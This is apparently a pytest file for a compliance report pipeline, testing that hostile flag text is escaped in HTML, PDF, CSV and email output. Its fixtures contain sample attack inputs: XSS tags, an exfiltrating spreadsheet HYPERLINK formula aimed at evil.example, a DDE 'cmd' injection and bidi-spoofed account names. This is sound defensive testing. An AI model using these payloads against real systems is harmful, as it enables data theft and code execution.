"""Log text is data, never markup, formulas or display tricks: hostile flag text is escaped in every
HTML output, control and bidi characters are shown as `<U+XXXX>` wherever a person reads them and
kept exactly in the exports, nothing is fetched from the network, and CSV cells a spreadsheet would
run are neutralised."""
from __future__ import annotations

import csv
import re
import http.server
import threading

import duckdb

from compliance import pipeline
from compliance.display import ESCAPED_RANGES, visible
from compliance.reports.exports import visible_sql
from compliance.reports.pdf import write_pdf
from report_helpers import flag_row
from report_reading import pdf_text, read_html
from support import SMTP_CONN_ID

MONTH = "2016-03"
SCRIPT = "<script>alert('pwned')</script>"
IMAGE = '<img src="http://127.0.0.1:9/track.png">'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE = [
    flag_row("f-hostile-1", MONTH, summary=f"ran {SCRIPT}{IMAGE}", subject_id="+cmd|' /C calc'!A0",
             person_id="@SUM(1+1)", evidence={
                 "reason": "<b>not bold</b>", "statement": "SELECT * FROM persons; <iframe src=//evil.example>",
                 "search_terms": FORMULA, "policy_citation": "-2+3",
                 "source_lines": [{"file": "landing/<svg onload=alert(1)>.csv", "line": 7}]}),
    flag_row("f-hostile-2", MONTH, rule_id="<script>rule</script>", category="<script>cat</script>",
             summary=FORMULA, subject_id="D2"),
]

# A stored account that reads as another ("PPD-D01-0417ice_user"), a terminal escape, a NUL, an
# isolate: each must be seen for what it is.
SPOOFED_ACCOUNT = "PPD-D01-0417\u202eresu_eci"
TRICKS = [
    flag_row("f-tricks-1", MONTH, rule_id="audit_tamper", category="audit_tamper\u202e",
             account_id=SPOOFED_ACCOUNT, subject_id="E\x1b[2J1",
             summary=f"Account {SPOOFED_ACCOUNT} touched the audit trail: SET pgaudit.log='none'\x00",
             evidence={"reason": "switches auditing off\x1b[8m", "statement": "SET pgaudit.log='none'\u2066\x00",
                       "source_lines": [{"file": "landing/pg\u202e.csv", "line": 7}]}),
]
RAW_TRICKS = ("\u202e", "\u2066", "\x1b", "\x00")


def _urls_in(reading) -> list[str]:
    return [value for tag, attrs in reading.tags for name, value in attrs.items()
            if name in ("src", "href", "xlink:href", "action", "data") and value
            and not value.startswith(("#", "data:"))]


def test_hostile_text_is_escaped_and_nothing_is_fetched(tiny_home):
    reports = pipeline.build_reports(tiny_home(flags=HOSTILE), MONTH)
    for key in ("ig_html", "committee_html", "committee_es_html"):
        text = reports.files[key].read_text(encoding="utf-8")
        reading = read_html(reports.files[key])
        tags = {tag for tag, _ in reading.tags}
        assert not tags & {"script", "iframe", "img", "object", "embed", "link", "b"}, key
        assert _urls_in(reading) == [], key
        assert not re.search(r"url\((?!#)", text) and "@import" not in text  # url(#id): SVG-local
        assert "Content-Security-Policy" in text and "default-src 'none'" in text
        assert not any(name.startswith("on") for _, attrs in reading.tags for name in attrs), key
    ig = reports.ig_html.read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(" in ig and "&lt;iframe src=//evil.example&gt;" in ig
    assert "&lt;svg onload=alert(1)&gt;" in ig


def test_csv_neutralises_formulas_and_parquet_keeps_values(tiny_home):
    reports = pipeline.build_reports(tiny_home(flags=HOSTILE), MONTH)
    with open(reports.files["flags_csv"], encoding="utf-8", newline="") as fh:
        rows = {row["flag_id"]: row for row in csv.DictReader(fh)}
    first, second = rows["f-hostile-1"], rows["f-hostile-2"]
    assert first["subject_id"] == "'+cmd|' /C calc'!A0"
    assert first["person_id"] == "'@SUM(1+1)"
    assert first["policy_citation"] == "'-2+3"
    assert second["summary"] == "'" + FORMULA
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    parquet = duckdb.connect().execute(
        "SELECT flag_id, subject_id, summary FROM read_parquet(?) ORDER BY flag_id",
        [str(reports.files["flags_parquet"])]).fetchall()
    assert parquet == [("f-hostile-1", "+cmd|' /C calc'!A0", f"ran {SCRIPT}{IMAGE}"),
                       ("f-hostile-2", "D2", FORMULA)]


def test_pdf_renderer_fetches_nothing(tmp_path):
    requests = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            requests.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *args):
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        port = server.server_address[1]
        html = (f'<html lang="en"><head><title>t</title><link rel="stylesheet" href="http://127.0.0.1:{port}/s.css">'
                f'<style>@import url("http://127.0.0.1:{port}/i.css");</style></head><body>'
                f'<img src="http://127.0.0.1:{port}/x.png" alt="x"><p>text</p></body></html>')
        assert write_pdf(html, tmp_path / "t.pdf") == 1
    finally:
        server.shutdown()
    assert requests == []


def test_control_and_bidi_characters_are_visible_in_the_reports_and_exact_in_the_exports(tiny_home):
    reports = pipeline.build_reports(tiny_home(flags=TRICKS), MONTH)
    for key in ("ig_html", "committee_html", "committee_es_html"):
        text = reports.files[key].read_text(encoding="utf-8")
        assert not [c for c in RAW_TRICKS if c in text], key
    ig = reports.ig_html.read_text(encoding="utf-8")
    for shown in ("PPD-D01-0417&lt;U+202E&gt;resu_eci", "E&lt;U+001B&gt;[2J1", "&#39;none&#39;&lt;U+0000&gt;",
                  "auditing off&lt;U+001B&gt;[8m", "&lt;U+2066&gt;&lt;U+0000&gt;", "pg&lt;U+202E&gt;.csv",
                  "audit_tamper&lt;U+202E&gt;"):
        assert shown in ig, shown
    pdf = pdf_text(reports.files["ig_pdf"])
    assert not [c for c in RAW_TRICKS if c in pdf]
    assert "resu_eci" in pdf and "<U+202E>" in "".join(pdf.split())
    parquet = duckdb.connect().execute(
        "SELECT account_id, subject_id, summary, category, evidence ->> 'statement' FROM read_parquet(?)",
        [str(reports.files["flags_parquet"])]).fetchall()
    flag = TRICKS[0]
    assert parquet == [(SPOOFED_ACCOUNT, flag["subject_id"], flag["summary"], flag["category"],
                        flag["evidence"]["statement"])]
    with open(reports.files["flags_csv"], encoding="utf-8", newline="") as fh:
        [row] = list(csv.DictReader(fh))
    assert (row["account_id"], row["summary"]) == (SPOOFED_ACCOUNT, flag["summary"])
    assert row["visible_text"] == (
        "detainer E<U+001B>[2J1 · account PPD-D01-0417<U+202E>resu_eci · person P1 · Account "
        "PPD-D01-0417<U+202E>resu_eci touched the audit trail: SET pgaudit.log='none'<U+0000>")


def test_the_ig_note_shows_control_and_bidi_characters_visibly(tiny_home, smtp_server):
    home = tiny_home(flags=TRICKS)
    pipeline.build_reports(home, MONTH)
    pipeline.deliver(home, MONTH, committee_to=[], ig_to=["ig@example.org"], smtp_conn_id=SMTP_CONN_ID)
    [message] = smtp_server.messages
    body = message.get_body(("html",)).get_content()
    assert "audit_tamper&lt;U+202E&gt;: 1" in body and "\u202e" not in body


def test_the_csv_export_escapes_exactly_as_the_reports_do():
    every = [chr(c) for first, last in ESCAPED_RANGES for c in range(first, last + 1)
             if not 0xD800 <= c <= 0xDFFF]
    con = duckdb.connect()
    for text in ("x".join(every) + " Ramírez 中🙂", "nothing to escape", ""):
        assert con.execute(f"SELECT {visible_sql('$1')}", [text]).fetchone()[0] == visible(text)
